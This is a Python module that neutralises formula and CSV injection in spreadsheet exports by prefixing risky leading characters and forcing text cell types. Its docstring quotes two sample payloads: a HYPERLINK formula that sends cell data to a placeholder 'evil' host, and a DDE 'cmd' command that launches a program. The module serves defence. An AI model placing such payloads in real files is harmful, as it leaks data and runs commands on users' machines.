"""Cell text stays text: the one place that defuses formula and CSV injection.

Why: values come from the user's workbook, from customers and from forwarders' e-mails.  A
contract number or remark such as ``=HYPERLINK("http://evil/?"&A1,"click")`` or
``-2+3+cmd|' /C calc'!A0`` is harmless text in the master sheet, but becomes a live formula
(or a DDE command) when a naive writer puts it in a generated sheet, or when Excel opens a
CSV report holding it.  OWASP's CSV-injection advice: a field that starts with ``=``, ``+``,
``-``, ``@``, tab or carriage return gets a leading ``'``.

Which function where:

* CSV files: every field through :func:`csv_safe` (then ``csv.writer`` does the quoting).
  A plain number written as text (``-5``, ``+3.5``) cannot execute and is left alone.
* openpyxl appliers: :func:`openpyxl_set_text` - assigns the value (control characters
  escaped as ``_xHHHH_``, which openpyxl otherwise refuses), forces the cell type to
  string (``cell.data_type = 's'``; openpyxl otherwise turns any ``str`` starting with ``=``
  into a formula) and sets ``quotePrefix`` so Excel keeps it text even after the user edits
  the cell.  No visible apostrophe is added.  Formulas exist only as ``SetFormula`` actions.
* xlsxwriter: ``worksheet.write_string(row, col, text)`` (never ``write()`` for data), or
  ``Workbook(..., {"strings_to_formulas": False})``.
* live Excel (xlwings ``range.value = ...``) and any API that interprets what it is given
  like a typed entry: :func:`as_text_cell`, which adds Excel's hidden ``'`` prefix.
* JSON and terminal tables are not interpreted by a spreadsheet; they show the value as is.

Nothing here evaluates or parses the text; it only looks at its first characters.
"""

from __future__ import annotations

import datetime as _dt
import math
import re
from decimal import Decimal
from typing import Any

__all__ = [
    "FORMULA_TRIGGERS",
    "as_text_cell",
    "csv_row",
    "csv_safe",
    "looks_like_formula",
    "ooxml_escape",
    "openpyxl_set_text",
]

#: First characters that make a spreadsheet treat a typed/imported value as a formula,
#: plus tab and carriage return (OWASP).  Line feed is included too: some importers split
#: a field on it and evaluate what follows.
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "\n")

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def looks_like_formula(text: str) -> bool:
    """True if a spreadsheet could evaluate ``text`` (leading spaces are ignored, as Excel does)."""
    if not text:
        return False
    if text[0] in FORMULA_TRIGGERS:
        return True
    stripped = text.lstrip(" \u00a0\u3000")
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def _plain_number(text: str) -> bool:
    return _PLAIN_NUMBER.fullmatch(text) is not None


def csv_safe(value: Any) -> str:
    """The text of one CSV field, safe to open in Excel/LibreOffice/WPS.

    ``None`` -> ``""``; numbers -> their shortest text (``1.0`` -> ``1``); dates -> ISO
    ``YYYY-MM-DD`` (datetimes keep their time); booleans -> ``TRUE``/``FALSE``; text that
    could be evaluated -> ``'`` + text.  Text that is a plain number (``-5``) stays as is.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        if math.isnan(value) or math.isinf(value):
            return str(value)
        return str(int(value)) if value.is_integer() and abs(value) < 1e15 else repr(value)
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, _dt.datetime):
        return value.isoformat(sep=" ") if value.time() != _dt.time() else value.date().isoformat()
    if isinstance(value, (_dt.date, _dt.time)):
        return value.isoformat()
    text = value if isinstance(value, str) else str(value)
    if looks_like_formula(text) and not _plain_number(text.strip()):
        return "'" + text
    return text


def csv_row(values: list[Any] | tuple[Any, ...]) -> list[str]:
    """:func:`csv_safe` over a row, for ``csv.writer.writerow``."""
    return [csv_safe(v) for v in values]


def as_text_cell(value: Any) -> Any:
    """A value for APIs that interpret text like a typed entry (live Excel via xlwings).

    Non-text values pass through.  Text that Excel would evaluate (``=``, ``+``, ``-``,
    ``@``, tab, CR, LF first) gets Excel's quote prefix ``'``, which Excel stores as the
    cell's PrefixCharacter and does not show: the cell then holds exactly ``value``.
    Plain-number text such as ``-5`` also gets it, so a text cell stays text.
    """
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_OOXML_ESCAPE = re.compile(r"_(x[0-9A-Fa-f]{4}_)")


def ooxml_escape(text: str) -> str:
    """Text that XML cannot hold, in the form Excel and calamine decode back exactly.

    Control characters (they do occur: calamine decodes ``_x000B_`` from real files) become
    ``_xHHHH_``; a literal ``_xHHHH_`` already in the text gets its underscore escaped as
    ``_x005F_`` so it is not decoded.  openpyxl would otherwise raise IllegalCharacterError.
    """
    if "_x" in text:
        text = _OOXML_ESCAPE.sub(r"_x005F_\1", text)
    return _XML_ILLEGAL.sub(lambda m: f"_x{ord(m.group()):04X}_", text)


def openpyxl_set_text(cell: Any, value: Any) -> None:
    """Assign ``value`` to an openpyxl cell so that text is stored as text, never a formula.

    openpyxl marks any ``str`` starting with ``=`` as a formula on assignment; forcing
    ``data_type = 's'`` afterwards writes it as a string, and ``quotePrefix`` tells Excel to
    keep it text when the user edits the cell.  Control characters are escaped
    (:func:`ooxml_escape`).  Non-text values are assigned unchanged.  The engine never
    imports openpyxl; appliers call this with their own cell objects.
    """
    if isinstance(value, str):
        cell.value = ooxml_escape(value)
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    else:
        cell.value = value
